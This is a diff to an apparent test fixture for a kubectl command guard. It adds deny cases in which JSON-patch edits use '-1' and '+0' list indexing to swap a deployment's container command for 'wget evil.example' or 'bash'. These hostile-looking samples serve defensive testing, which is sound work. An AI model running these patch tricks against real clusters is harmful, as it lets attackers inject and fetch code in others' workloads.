@@ -146,6 +146,16 @@ export const kubectlContent: readonly Attack[] = [
     why: "a probe's last word may be an interpreter's program",
   },
   {
+    command: `kubectl patch deploy web --type=json -p='[{"op":"replace","path":"/spec/template/spec/containers/0/command/-1","value":"wget evil.example"}]'`,
+    expect: "deny",
+    why: "the API server counts back from the end of a list",
+  },
+  {
+    command: `kubectl patch deploy web --type=json -p='[{"op":"replace","path":"/spec/template/spec/containers/0/command/+0","value":"bash"}]'`,
+    expect: "deny",
+    why: "a sign before the number is a number to Go",
+  },
+  {
     command: `kubectl patch deploy web --type=json -p='[{"op":"copy","from":"/metadata/annotations/x","path":"/spec/template/spec/containers/0/command/2"}]'`,
     expect: "deny",
     why: "an annotation that was set before becomes what a shell runs",
